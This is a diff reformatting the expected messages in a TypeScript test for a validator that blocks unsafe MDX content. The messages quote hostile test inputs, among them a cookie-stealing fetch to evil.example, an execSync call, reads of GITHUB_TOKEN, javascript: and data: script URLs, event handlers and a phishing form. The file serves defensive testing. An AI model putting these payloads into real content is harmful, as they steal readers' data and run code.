@@ -21,35 +21,23 @@ const EXPECTED: Record<string, string[]> = {
   'attribute-expression.mdx': [
     "8:7 [mdx-expression] <Cite id={'blog-' + process.env.GITHUB_TOKEN}> uses an expression: content may not contain code.",
   ],
-  'base-href.mdx': [
-    '8:1 [html-element] <base> is not allowed in content.',
-  ],
+  'base-href.mdx': ['8:1 [html-element] <base> is not allowed in content.'],
   'button-formaction.mdx': [
     '8:1 [html-element] <button> is not allowed in content.',
     '8:9 [unsafe-url] <button formAction="javascript:alert(1)"> is a "javascript:" URL.',
   ],
-  'closing-delimiter.mdx': [
-    '4:4 [html-element] <script> is not allowed in content.',
-  ],
+  'closing-delimiter.mdx': ['4:4 [html-element] <script> is not allowed in content.'],
   'comment-then-code.mdx': [
     '8:1 [mdx-expression] The expression {/* just a note */ process.exit(1)} is code: content may not contain JavaScript expressions.',
   ],
-  'component-bad-value.mdx': [
-    '8:10 [component-prop] <Callout type="info">: "info" is not a valid type.',
-  ],
-  'component-unknown-prop.mdx': [
-    '8:21 [component-prop] <Callout> has no "onClick" prop.',
-  ],
+  'component-bad-value.mdx': ['8:10 [component-prop] <Callout type="info">: "info" is not a valid type.'],
+  'component-unknown-prop.mdx': ['8:21 [component-prop] <Callout> has no "onClick" prop.'],
   'custom-element.mdx': [
     '8:1 [html-element] <x-widget> is not allowed in content.',
     `8:11 [html-attribute] <x-widget onClick="…"> is an event handler: it would run script in readers' browsers.`,
   ],
-  'data-image.mdx': [
-    '8:1 [unsafe-url] The image ![…](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+) is a "data:" URL.',
-  ],
-  'data-url-link.mdx': [
-    '8:1 [unsafe-url] The link […](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==) is a "data:" URL.',
-  ],
+  'data-image.mdx': ['8:1 [unsafe-url] The image ![…](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+) is a "data:" URL.'],
+  'data-url-link.mdx': ['8:1 [unsafe-url] The link […](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==) is a "data:" URL.'],
   'deep-elements.mdx': [
     '8:236 [nesting] Content here is nested 49 levels deep; at most 48 are allowed, and deeper nesting cannot be compiled.',
   ],
@@ -59,27 +47,19 @@ const EXPECTED: Record<string, string[]> = {
   'deep-quote.mdx': [
     '8:1 [nesting] This line starts with 1001 characters of indentation and list or quote markers: content nested this deeply cannot be compiled.',
   ],
-  'definition-javascript.mdx': [
-    '10:1 [unsafe-url] The link […]: javascript:alert(1) is a "javascript:" URL.',
-  ],
+  'definition-javascript.mdx': ['10:1 [unsafe-url] The link […]: javascript:alert(1) is a "javascript:" URL.'],
   'details-ontoggle.mdx': [
     '8:1 [html-element] <details> is not allowed in content.',
     `8:15 [html-attribute] <details onToggle="…"> is an event handler: it would run script in readers' browsers.`,
     '8:35 [html-element] <summary> is not allowed in content.',
   ],
-  'double-encoded-javascript.mdx': [
-    '8:1 [unsafe-url] The link […](javascript&colon;alert(1)) is a "javascript:" URL.',
-  ],
+  'double-encoded-javascript.mdx': ['8:1 [unsafe-url] The link […](javascript&colon;alert(1)) is a "javascript:" URL.'],
   'entity-colon-javascript.mdx': [
     '8:1 [html-element] <a> is not allowed in content.',
     '8:4 [unsafe-url] <a href="javascript:alert(1)"> is a "javascript:" URL.',
   ],
-  'entity-tab-javascript.mdx': [
-    '8:1 [unsafe-url] The link […](java\\tscript:alert(1)) is a "javascript:" URL.',
-  ],
-  'env-home.mdx': [
-    '8:39 [mdx-expression] The expression {process.env.HOME} is code: content may not contain JavaScript expressions.',
-  ],
+  'entity-tab-javascript.mdx': ['8:1 [unsafe-url] The link […](java\\tscript:alert(1)) is a "javascript:" URL.'],
+  'env-home.mdx': ['8:39 [mdx-expression] The expression {process.env.HOME} is code: content may not contain JavaScript expressions.'],
   'exec-child-process.mdx': [
     "8:1 [mdx-expression] The expression {process.getBuiltinModule('child_process').execSync('id').…} is code: content may not contain JavaScript expressions.",
   ],
@@ -90,22 +70,15 @@ const EXPECTED: Record<string, string[]> = {
     '12:1 [html-element] <script> is not allowed in content.',
     `12:9 [mdx-expression] The expression {"fetch('https://evil.example/?c=' + document.cookie)"} is code: content may not contain JavaScript expressions.`,
   ],
-  'form-phishing.mdx': [
-    '8:1 [html-element] <form> is not allowed in content.',
-    '9:3 [html-element] <input> is not allowed in content.',
-  ],
-  'fragment-set-html.mdx': [
-    "8:1 [component] <Fragment> is not one of the site's components.",
-  ],
+  'form-phishing.mdx': ['8:1 [html-element] <form> is not allowed in content.', '9:3 [html-element] <input> is not allowed in content.'],
+  'fragment-set-html.mdx': ["8:1 [component] <Fragment> is not one of the site's components."],
   'frontmatter-html.mdx': [
     '3:14 [frontmatter-html] This value contains HTML ("<img…"): front matter is shown as plain text, so markup would appear literally and is never allowed.',
   ],
   'handler-on-allowed-element.mdx': [
     `8:12 [html-attribute] <kbd onMouseOver="…"> is an event handler: it would run script in readers' browsers.`,
   ],
-  'hex-entity-javascript.mdx': [
-    '8:1 [unsafe-url] The link […](javascript:alert(1)) is a "javascript:" URL.',
-  ],
+  'hex-entity-javascript.mdx': ['8:1 [unsafe-url] The link […](javascript:alert(1)) is a "javascript:" URL.'],
   'html-comment.mdx': [
     '8:2 [mdx-syntax] MDX cannot parse this: Unexpected character `!` (U+0021) before name, expected a character that can start a name, such as a letter, `$`, or `_` (note: to create a comment in MDX, use `{/* text */}`).',
   ],
@@ -117,15 +90,9 @@ const EXPECTED: Record<string, string[]> = {
     '8:1 [html-element] <img> is not allowed in content.',
     `8:19 [html-attribute] <img onError="…"> is an event handler: it would run script in readers' browsers.`,
   ],
-  'import-node-fs.mdx': [
-    `8:1 [mdx-import-export] An MDX import ("import fs from 'node:fs';"): content may not import or export code.`,
-  ],
-  'internal-prop.mdx': [
-    '8:25 [component-prop] <Cite>: "n" is set by the site and may not be written in content.',
-  ],
-  'jsx-fragment.mdx': [
-    '8:1 [component] A JSX fragment <>…</> is not content.',
-  ],
+  'import-node-fs.mdx': [`8:1 [mdx-import-export] An MDX import ("import fs from 'node:fs';"): content may not import or export code.`],
+  'internal-prop.mdx': ['8:25 [component-prop] <Cite>: "n" is set by the site and may not be written in content.'],
+  'jsx-fragment.mdx': ['8:1 [component] A JSX fragment <>…</> is not content.'],
   'jsx-in-attribute.mdx': [
     '8:21 [mdx-expression] <Callout title={<script>alert(1)</script>}> uses an expression: content may not contain code.',
   ],
@@ -136,9 +103,7 @@ const EXPECTED: Record<string, string[]> = {
     '8:1 [html-element] <a> is not allowed in content.',
     '8:4 [unsafe-url] <a href="  javascript:alert(1)"> is a "javascript:" URL.',
   ],
-  'link-stylesheet.mdx': [
-    '8:1 [html-element] <link> is not allowed in content.',
-  ],
+  'link-stylesheet.mdx': ['8:1 [html-element] <link> is not allowed in content.'],
   'math-href.mdx': [
     '8:1 [html-element] <math> is not allowed in content.',
     '8:7 [html-element] <mi> is not allowed in content.',
@@ -156,19 +121,12 @@ const EXPECTED: Record<string, string[]> = {
     '8:1 [html-element] <noscript> is not allowed in content.',
     '8:11 [html-element] <p> is not allowed in content.',
   ],
-  'object-embed.mdx': [
-    '8:1 [html-element] <object> is not allowed in content.',
-    '10:1 [html-element] <embed> is not allowed in content.',
-  ],
-  'prompt-component-props.mdx': [
-    '8:13 [component-prop] <PromptCard> has no "prompt" prop.',
-  ],
+  'object-embed.mdx': ['8:1 [html-element] <object> is not allowed in content.', '10:1 [html-element] <embed> is not allowed in content.'],
+  'prompt-component-props.mdx': ['8:13 [component-prop] <PromptCard> has no "prompt" prop.'],
   'protocol-relative-link.mdx': [
     '8:1 [unsafe-url] The link […](//evil.example/guide/) is a protocol-relative URL ("//host"), which loads another site.',
   ],
-  'style-attribute.mdx': [
-    '8:10 [html-attribute] <sup style="…">: inline styles are not allowed in content.',
-  ],
+  'style-attribute.mdx': ['8:10 [html-attribute] <sup style="…">: inline styles are not allowed in content.'],
   'style-hides-main.mdx': [
     '8:1 [html-element] <style> is not allowed in content.',
     `8:8 [mdx-expression] The expression {"main { display: none } body::after { content: 'Site move…} is code: content may not contain JavaScript expressions.`,
@@ -198,22 +156,13 @@ const EXPECTED: Record<string, string[]> = {
     `8:1 [mdx-import-export] An MDX import ("import { unescapeHTML } from 'astro/runtime/server/index.…"): content may not import or export code.`,
     "10:1 [mdx-expression] The expression {unescapeHTML('<scr' + 'ipt>alert(1)</scr' + 'ipt>')} is code: content may not contain JavaScript expressions.",
   ],
-  'unknown-component.mdx': [
-    "8:1 [component] <Evil> is not one of the site's components.",
-  ],
-  'uppercase-script.mdx': [
-    "8:1 [component] <SCRIPT> is not one of the site's components.",
-  ],
-  'vbscript-url.mdx': [
-    '8:1 [unsafe-url] The link […](vbscript:msgbox(1)) is a "vbscript:" URL.',
-  ],
+  'unknown-component.mdx': ["8:1 [component] <Evil> is not one of the site's components."],
+  'uppercase-script.mdx': ["8:1 [component] <SCRIPT> is not one of the site's components."],
+  'vbscript-url.mdx': ['8:1 [unsafe-url] The link […](vbscript:msgbox(1)) is a "vbscript:" URL.'],
   'yaml-html.yaml': [
     '3:6 [frontmatter-html] This value contains HTML ("<script…"): front matter is shown as plain text, so markup would appear literally and is never allowed.',
   ],
-  'yaml-javascript-url.yaml': [
-    '4:6 [unsafe-url] This value is a "javascript:" URL.',
-  ],
-
+  'yaml-javascript-url.yaml': ['4:6 [unsafe-url] This value is a "javascript:" URL.'],
 };
 
 function problemsOf(file: string, source = readFileSync(file, 'utf8')): string[] {
